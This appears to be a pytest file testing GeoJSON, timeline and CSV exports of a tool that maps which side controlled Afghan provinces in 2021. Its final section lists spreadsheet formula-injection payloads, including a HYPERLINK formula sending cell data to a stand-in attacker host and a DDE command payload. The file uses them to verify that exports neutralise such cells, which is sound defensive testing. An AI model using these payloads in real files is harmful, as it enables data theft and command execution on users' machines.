"""Exports: RFC 7946 snapshots traceable to stored sentences, the timeline, claims as CSV."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import itertools
import json
import sqlite3
import subprocess
import sys
from contextlib import closing
from pathlib import Path

import pytest
from factories import make_claim
from hypothesis import given
from hypothesis import strategies as st
from shapely.geometry import shape

from geo import export, store
from geo.ingest import ingest_paths
from geo.model import load_model, model_from_claims
from geo.records import STATUSES, Claim

CONTROLMAP = str(Path(sys.executable).with_name("controlmap"))
DEMO = Path(__file__).resolve().parent.parent / "data" / "demo"
# Afghanistan's bounding box (lon 60.5-74.9 E, lat 29.4-38.5 N), with a little margin.
LON = (60.3, 75.1)
LAT = (29.2, 38.7)
PROPERTY_KEYS = {"iso_3166_2", "name", "status", "holder", "confirmed", "since", "last_report",
                 "confidence", "n_sources", "top_quote", "top_source"}
EVIDENCE_KEYS = {"key", "date", "place", "actor", "kind", "claimant", "quote", "source", "role"}
DAYS = [dt.date(2021, 7, 10), dt.date(2021, 8, 6), dt.date(2021, 8, 12), dt.date(2021, 8, 13),
        dt.date(2021, 8, 15), dt.date(2021, 9, 6)]  # fmt: skip


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory) -> str:
    db = str(tmp_path_factory.mktemp("export") / "demo.db")
    report = ingest_paths(store.open_db(db), [DEMO])
    assert report.refused == []
    yield db
    store.close_db(db)


@pytest.fixture(scope="module")
def demo_model(demo_db: str):
    return load_model(demo_db)


@pytest.fixture(scope="module")
def stored_texts(demo_db: str) -> dict[str, str]:
    """The stored documents' texts by name (what the exports cite when the source is a path)."""
    with closing(sqlite3.connect(demo_db)) as raw:
        return dict(raw.execute("SELECT name, text FROM documents"))


def strict_json(text: str):
    """Parse JSON refusing NaN and Infinity, which RFC 7946 (RFC 8259) does not allow."""

    def refuse(constant: str):
        raise ValueError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


def snapshot(model, day: dt.date) -> dict:
    return strict_json(export.snapshot_geojson(model, day))


def polygons(geometry: dict) -> list:
    geom = shape(geometry)
    return list(geom.geoms) if geom.geom_type == "MultiPolygon" else [geom]


# --------------------------------------------------------------------------- snapshot


def test_snapshot_is_a_feature_collection_of_the_34_provinces(demo_model) -> None:
    collection = snapshot(demo_model, dt.date(2021, 8, 13))

    assert collection["type"] == "FeatureCollection"
    assert "crs" not in collection  # RFC 7946 drops crs: coordinates are WGS84
    features = collection["features"]
    assert len(features) == 34
    assert all(f["type"] == "Feature" for f in features)
    isos = {f["properties"]["iso_3166_2"] for f in features}
    assert isos == set(demo_model.provinces)
    assert len(isos) == 34


@pytest.mark.parametrize("day", [dt.date(2021, 8, 13)])
def test_snapshot_geometries_are_lon_lat_polygons_inside_afghanistan(demo_model, day) -> None:
    for feature in snapshot(demo_model, day)["features"]:
        geometry = feature["geometry"]
        assert geometry["type"] in ("Polygon", "MultiPolygon")
        for polygon in polygons(geometry):
            assert polygon.is_valid, feature["properties"]["iso_3166_2"]
            min_lon, min_lat, max_lon, max_lat = polygon.bounds
            assert LON[0] <= min_lon <= max_lon <= LON[1]
            assert LAT[0] <= min_lat <= max_lat <= LAT[1]


def test_snapshot_rings_follow_the_right_hand_rule(demo_model) -> None:
    for feature in snapshot(demo_model, dt.date(2021, 8, 13))["features"]:
        for polygon in polygons(feature["geometry"]):
            assert polygon.exterior.is_ccw, feature["properties"]["iso_3166_2"]
            assert not any(ring.is_ccw for ring in polygon.interiors)


def test_snapshot_properties_are_flat_and_have_the_documented_keys(demo_model) -> None:
    features = snapshot(demo_model, dt.date(2021, 8, 13))["features"]

    for feature in features:
        props = feature["properties"]
        assert set(props) >= PROPERTY_KEYS
        assert not any(isinstance(v, (dict, list)) for v in props.values()), props
        assert props["status"] in STATUSES
        assert 0.0 <= props["confidence"] <= 1.0
        if props["status"] == "unknown":
            assert props["confirmed"] is None
            assert (props["n_sources"], props["top_quote"], props["holder"]) == (0, "", None)
        else:
            assert isinstance(props["confirmed"], bool)
            assert props["n_sources"] >= 1
            assert props["top_quote"]
    names = {f["properties"]["iso_3166_2"]: f["properties"]["name"] for f in features}
    assert (names["AF-KDZ"], names["AF-NIM"]) == ("Kunduz", "Nimroz")


def test_snapshot_holder_names_the_side_and_last_report_the_latest_support(demo_model) -> None:
    day = dt.date(2021, 8, 13)
    props = {f["properties"]["iso_3166_2"]: f["properties"]
             for f in snapshot(demo_model, day)["features"]}  # fmt: skip
    states = demo_model.states_on(day)

    assert props["AF-KAN"]["status"] == "taliban"
    assert props["AF-KAN"]["holder"] == "taliban"
    for iso, p in props.items():
        dates = [c.event_date for c in states[iso].evidence]
        assert p["last_report"] == (max(dates).isoformat() if dates else None)
        if p["status"] == "contested":
            assert p["holder"] is None


def test_snapshot_reads_in_geopandas_with_flat_columns(demo_model, tmp_path: Path) -> None:
    import geopandas as gpd

    path = tmp_path / "snapshot.geojson"
    path.write_text(export.snapshot_geojson(demo_model, dt.date(2021, 8, 13)), encoding="utf-8")
    frame = gpd.read_file(path)

    assert len(frame) == 34
    assert set(frame.columns) >= PROPERTY_KEYS
    assert frame.set_index("iso_3166_2").loc["AF-KAN", "status"] == "taliban"
    assert frame["top_quote"].map(type).eq(str).all()


def test_snapshot_since_is_an_iso_day_not_after_the_snapshot(demo_model) -> None:
    day = dt.date(2021, 8, 13)
    for feature in snapshot(demo_model, day)["features"]:
        props = feature["properties"]
        if props["status"] == "unknown":
            assert props["n_claims"] == 0
        else:
            assert dt.date.fromisoformat(props["since"]) <= day
            assert dt.date.fromisoformat(props["last_report"]) <= day


def evidence(model, day: dt.date, places: bool = False) -> list[dict]:
    return list(csv.DictReader(io.StringIO(export.evidence_csv(model, day, places), newline="")))


@pytest.mark.parametrize("day", DAYS, ids=str)
def test_every_known_state_is_traceable_to_a_sentence_of_a_stored_document(
    demo_model, stored_texts: dict[str, str], day: dt.date
) -> None:
    rows = evidence(demo_model, day)
    by_key: dict[str, list[dict]] = {}
    for row in rows:
        assert set(row) >= EVIDENCE_KEYS
        by_key.setdefault(row["key"], []).append(row)
    known = 0
    for feature in snapshot(demo_model, day)["features"]:
        props = feature["properties"]
        if props["status"] == "unknown":
            assert props["iso_3166_2"] not in by_key
            continue
        known += 1
        supporting = [r for r in by_key[props["iso_3166_2"]] if r["role"] == "supporting"]
        assert len(supporting) == props["n_claims"]
        assert props["top_quote"] == supporting[0]["quote"]
        for entry in supporting:
            assert entry["quote"].strip()
            assert entry["source"] in stored_texts, entry["source"]
            assert entry["quote"] in stored_texts[entry["source"]], entry
    assert known > 0


def test_exports_never_show_a_server_path_as_a_source(demo_model) -> None:
    day = dt.date(2021, 8, 13)
    sources = [f["properties"]["top_source"] for f in snapshot(demo_model, day)["features"]]
    sources += [r["source"] for r in evidence(demo_model, day, places=True)]

    assert sources
    assert not [s for s in sources if "/" in s and not s.startswith(("http://", "https://"))]


def test_the_snapshot_of_a_day_before_any_evidence_is_all_unknown(demo_model) -> None:
    first, _ = demo_model.days()
    features = snapshot(demo_model, first - dt.timedelta(days=1))["features"]

    assert len(features) == 34
    assert {f["properties"]["status"] for f in features} == {"unknown"}
    assert {f["properties"]["confirmed"] for f in features} == {None}
    assert evidence(demo_model, first - dt.timedelta(days=1)) == []


def test_the_snapshot_of_an_empty_database_is_34_unknown_provinces(tmp_path: Path) -> None:
    db = str(tmp_path / "empty.db")
    store.open_db(db)
    try:
        features = snapshot(load_model(db), dt.date(2021, 8, 15))["features"]
    finally:
        store.close_db(db)

    assert len(features) == 34
    assert {f["properties"]["status"] for f in features} == {"unknown"}


def test_snapshot_places_adds_points_with_their_state_that_day(demo_model) -> None:
    day = dt.date(2021, 8, 13)
    features = strict_json(export.snapshot_geojson(demo_model, day, places=True))["features"]
    provinces = [f for f in features if f["properties"]["level"] == "province"]
    places = [f for f in features if f["properties"]["level"] == "place"]

    assert len(provinces) == 34
    assert places, "the demo has places below province level"
    assert {f["geometry"]["type"] for f in places} == {"Point"}
    for feature in places:
        props = feature["properties"]
        state = demo_model.timeline.place_state(props["key"], day)
        assert (props["status"], props["since"]) == (state.status, state.since.isoformat())
        lon, lat = feature["geometry"]["coordinates"]
        assert LON[0] <= lon <= LON[1]
        assert LAT[0] <= lat <= LAT[1]
    keys = {r["key"] for r in evidence(demo_model, day, places=True)}
    assert {f["properties"]["key"] for f in places} <= keys


# --------------------------------------------------------------------------- timeline


def demo_days(model) -> list[dt.date]:
    first, last = model.days()
    return [first + dt.timedelta(days=i) for i in range((last - first).days + 1)]


def on_day(intervals: list[dict], day: dt.date) -> list[dict]:
    """QGIS's temporal filter: features with start <= day < end (or no end)."""
    iso = day.isoformat()
    return [p for p in intervals if p["start"] <= iso and (p["end"] is None or iso < p["end"])]


def test_timeline_geojson_is_one_feature_per_province_and_interval(demo_model) -> None:
    collection = strict_json(export.timeline_geojson(demo_model))
    by_province: dict[str, list[dict]] = {}
    for feature in collection["features"]:
        assert feature["geometry"]["type"] in ("Polygon", "MultiPolygon")
        props = feature["properties"]
        by_province.setdefault(props["iso_3166_2"], []).append(props)

    assert set(by_province) == set(demo_model.provinces)
    first = demo_model.days()[0].isoformat()
    for iso, intervals in by_province.items():
        assert intervals[0]["start"] == first, iso
        assert intervals[-1]["end"] is None, iso
        for a, b in itertools.pairwise(intervals):
            assert a["end"] == b["start"], iso
            assert a["start"] < a["end"], iso
            assert (a["status"], a["confirmed"]) != (b["status"], b["confirmed"]), iso
    assert len(collection["features"]) > 34


def test_qgis_temporal_filter_of_the_timeline_reproduces_every_days_snapshot(
        demo_model) -> None:
    intervals = [f["properties"] for f in strict_json(export.timeline_geojson(demo_model))[
        "features"]]

    for day in demo_days(demo_model):
        shown = on_day(intervals, day)
        expected = {f["properties"]["iso_3166_2"]: f["properties"]
                    for f in snapshot(demo_model, day)["features"]}  # fmt: skip
        assert sorted(p["iso_3166_2"] for p in shown) == sorted(expected), day
        for p in shown:
            want = expected[p["iso_3166_2"]]
            assert (p["status"], p["confirmed"]) == (want["status"], want["confirmed"]), (day, p)


def test_timeline_of_an_empty_database_has_no_features() -> None:
    assert strict_json(export.timeline_geojson(model_from_claims([])))["features"] == []


def test_timeline_rows_change_state_on_each_row_of_a_province(demo_model) -> None:
    rows = export.timeline_rows(demo_model)
    by_province: dict[str, list[tuple]] = {}
    for row in rows:
        by_province.setdefault(row["province_iso"], []).append((row["status"], row["confirmed"]))

    assert rows == sorted(rows, key=lambda r: (r["date"], r["province_iso"]))
    assert len(by_province) >= 30
    for iso, states in by_province.items():
        assert all(a != b for a, b in itertools.pairwise(states)), iso


def test_timeline_csv_has_the_same_header_for_an_empty_database(demo_model) -> None:
    empty = model_from_claims([])

    header = export.timeline_csv(empty).splitlines()[0]

    assert header == export.timeline_csv(demo_model).splitlines()[0]


def test_resistance_states_are_exported_with_their_status() -> None:
    nrf = make_claim(place="Bazarak", place_id="prov:AF-PAN", province_iso="AF-PAN",
                     actor="nrf", kind="held", claimant="media",
                     event_date=dt.date(2021, 8, 20), quote="The NRF holds Bazarak.").with_id()
    model = model_from_claims([nrf])
    state = model.timeline.province_state("AF-PAN", dt.date(2021, 8, 20))
    props = {f["properties"]["iso_3166_2"]: f["properties"]
             for f in snapshot(model, dt.date(2021, 8, 20))["features"]}  # fmt: skip
    intervals = [f["properties"] for f in strict_json(export.timeline_geojson(model))["features"]
                 if f["properties"]["iso_3166_2"] == "AF-PAN"]  # fmt: skip

    assert props["AF-PAN"]["status"] == state.status
    assert intervals[-1]["status"] == state.status
    if state.status == "resistance":  # the model's resistance side (another branch adds it)
        assert props["AF-PAN"]["holder"] == "nrf"


# --------------------------------------------------------------------------- CLI


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([CONTROLMAP, *args], capture_output=True, text=True, timeout=120,
                          check=False)  # fmt: skip


def test_cli_timeline_geojson_reads_in_geopandas_one_row_per_interval(
        demo_db: str, demo_model, tmp_path: Path) -> None:
    import geopandas as gpd
    import pandas as pd

    path = tmp_path / "timeline.geojson"
    done = run_cli("timeline", "--format", "geojson", "--db", demo_db, "-o", str(path))
    assert done.returncode == 0, done.stderr
    frame = gpd.read_file(path)

    assert {"iso_3166_2", "start", "end", "status", "confirmed"} <= set(frame.columns)
    assert len(frame) == sum(len(export.state_intervals(demo_model, iso))
                             for iso in demo_model.isos)  # fmt: skip
    assert frame.groupby("iso_3166_2")["end"].apply(lambda s: s.isna().sum()).eq(1).all()
    for day in demo_days(demo_model):  # QGIS's filter on what geopandas read
        when = pd.Timestamp(day)
        shown = frame[(frame["start"] <= when) & (frame["end"].isna() | (when < frame["end"]))]
        expected = {iso: s.status for iso, s in demo_model.states_on(day).items()}
        assert dict(zip(shown["iso_3166_2"], shown["status"], strict=True)) == expected, day


def test_cli_snapshot_writes_the_evidence_csv_and_places(demo_db: str, tmp_path: Path) -> None:
    out, ev = tmp_path / "s.geojson", tmp_path / "s-evidence.csv"
    done = run_cli("snapshot", "--date", "2021-08-13", "--places", "--evidence", str(ev),
                   "--db", demo_db, "-o", str(out))
    assert done.returncode == 0, done.stderr
    levels = {f["properties"]["level"] for f in strict_json(out.read_text())["features"]}
    assert levels == {"province", "place"}
    with ev.open(encoding="utf-8", newline="") as handle:
        assert next(csv.reader(handle)) == list(export.EVIDENCE_COLUMNS)


def test_cli_claims_acled_has_acleds_columns(demo_db: str) -> None:
    done = run_cli("claims", "--format", "acled", "--db", demo_db)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))

    assert list(rows[0])[:9] == ["event_date", "admin1", "location", "latitude", "longitude",
                                 "geo_precision", "actor1", "source", "notes"]
    kandahar = [r for r in rows if r["province_iso"] == "AF-KAN"]
    assert kandahar
    assert {r["admin1"] for r in kandahar} == {"Kandahar"}
    assert all(r["notes"] for r in rows)
    located = [r for r in rows if r["latitude"]]
    assert located
    assert all(29 < float(r["latitude"]) < 39 for r in located)


def test_cli_refuses_an_unknown_format_cleanly(demo_db: str) -> None:
    done = run_cli("claims", "--format", "xlsx", "--db", demo_db)
    assert done.returncode == 1
    assert "acled" in done.stderr
    assert "Traceback" not in done.stderr


# --------------------------------------------------------------------------- claims CSV

AWKWARD_QUOTES = [
    'Officials said, "Kunduz has fallen," and left.',
    "A line\nand another line, with a comma",
    'Quotes "inside", commas, and a\r\nWindows line end',
    "Trailing spaces and a tab\t ",
    "Non-ASCII: قندوز, Mazār-e Sharīf — “curly quotes”",
    "",
]


def claim(quote: str, n: int) -> Claim:
    return make_claim(document=f"report, {n}.txt", place_id="cap:AF-KDZ", quote=quote,
                      start=0, end=len(quote), source=f'https://example.org/?q="a,b"&n={n}',
                      lat=None, lon=None).with_id()


def test_claims_csv_round_trips_quotes_with_commas_quotes_and_newlines() -> None:
    claims = [claim(q, n) for n, q in enumerate(AWKWARD_QUOTES)]

    rows = list(csv.DictReader(io.StringIO(export.claims_csv(claims), newline="")))

    assert [r["quote"] for r in rows] == AWKWARD_QUOTES
    assert [r["document"] for r in rows] == [c.document for c in claims]
    assert [r["source"] for r in rows] == [c.source for c in claims]
    assert rows == [{k: str(v) for k, v in export.claim_record(c).items()} for c in claims]


def test_claims_csv_round_trips_through_a_file(tmp_path: Path) -> None:
    claims = [claim(q, n) for n, q in enumerate(AWKWARD_QUOTES)]
    path = tmp_path / "claims.csv"
    path.write_text(export.claims_csv(claims), encoding="utf-8", newline="")

    with path.open(encoding="utf-8", newline="") as handle:
        quotes = [r["quote"] for r in csv.DictReader(handle)]

    assert quotes == AWKWARD_QUOTES


def test_claims_csv_of_no_claims_is_the_header_alone() -> None:
    assert export.claims_csv([]) == ",".join(export.CLAIM_COLUMNS) + "\r\n"


def test_claims_json_round_trips_every_field() -> None:
    claims = [claim(q, n) for n, q in enumerate(AWKWARD_QUOTES)]

    records = strict_json(export.claims_json(claims))

    assert records == [export.claim_record(c) for c in claims]
    assert [r["quote"] for r in records] == AWKWARD_QUOTES


def test_stored_claims_export_quotes_intact(tmp_path: Path) -> None:
    db = str(tmp_path / "manual.db")
    engine = store.open_db(db)
    try:
        with engine.begin() as conn:
            for n, quote in enumerate(AWKWARD_QUOTES[:-1]):  # a manual claim needs a quote
                store.add_manual_claim(conn, dataclasses.replace(claim(quote, n), claim_id=""),
                                       author="analyst", note=f"note {n}")
        with engine.connect() as conn:
            text = export.claims_csv(store.load_claims(conn))
    finally:
        store.close_db(db)

    quotes = [r["quote"] for r in csv.DictReader(io.StringIO(text, newline=""))]
    assert sorted(quotes) == sorted(AWKWARD_QUOTES[:-1])


# --------------------------------------------------------------------------- formula injection

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]  # fmt: skip


def hostile_claim(quote: str, n: int) -> Claim:
    return make_claim(document=f"{quote[:6]}.txt", place=quote, quote=quote, start=0,
                      end=len(quote), source=quote, event_date=dt.date(2021, 8, 8 + n),
                      claimant="local").with_id()


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_csv_export_writes_formula_cells_as_text() -> None:
    claims = [hostile_claim(q, n) for n, q in enumerate(FORMULAS)]
    model = model_from_claims(claims)
    texts = {
        "claims": export.claims_csv(claims),
        "acled": export.acled_csv(claims, model.provinces),
        "timeline": export.timeline_csv(model),
        "evidence": export.evidence_csv(model, dt.date(2021, 8, 20), places=True),
    }

    for name, text in texts.items():
        written = cells(text)
        assert not [c for c in written if c.startswith(export.FORMULA_STARTS)], name
        quoted = {c for c in written if c.startswith("'")}
        assert {"'" + q for q in FORMULAS} & quoted, name


def test_numbers_stay_numbers_in_csv_exports() -> None:
    claim = make_claim(lat=-1.5, lon=68.86).with_id()
    [row] = list(csv.DictReader(io.StringIO(export.acled_csv([claim], {}), newline="")))

    assert row["latitude"] == "-1.5"


@given(st.text(max_size=30))
def test_csv_cell_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    cell = export.csv_cell(text)

    assert not cell.startswith(export.FORMULA_STARTS)
    assert cell == text or cell == "'" + text
    assert (cell != text) == text.startswith(export.FORMULA_STARTS)
